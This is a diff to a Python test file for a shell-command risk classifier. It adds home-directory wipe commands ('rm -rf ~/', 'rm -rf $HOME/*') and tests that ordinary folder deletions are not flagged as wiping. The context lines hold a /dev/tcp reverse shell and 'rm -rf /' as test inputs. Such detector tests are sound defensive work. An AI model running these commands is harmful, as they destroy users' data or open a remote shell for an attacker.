@@ -64,6 +64,8 @@ def test_every_rule_of_commands_is_in_the_taxonomy() -> None:
         ("systemctl enable x", {"persist.scheduler"}),
         ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"spawn.reverse"}),
         ("rm -rf / ", {"destroy.wipe", "file.delete"}),
+        ("rm -rf ~/", {"destroy.wipe", "file.delete"}),
+        ("rm -rf $HOME/*", {"destroy.wipe", "file.delete"}),
         ("whoami", {"host.identity"}),
         ("npm publish", {"spread.publish"}),
         ("git rev-parse HEAD", set()),
@@ -75,6 +77,11 @@ def test_commands(command: str, expected: set[str]) -> None:
     found = set(classify(command))
     assert expected <= found
     assert expected or not found
+
+
+@pytest.mark.parametrize("path", ["/var/lib/apt/lists/*", "/tmp/x", "~/.cache/x", "$HOME/x", "./build", "*.o"])
+def test_deleting_a_folder_is_no_wiping(path: str) -> None:
+    assert classify(f"rm -rf {path}") == ("file.delete",)
 
 
 def test_commands_are_linear_on_hostile_text() -> None:
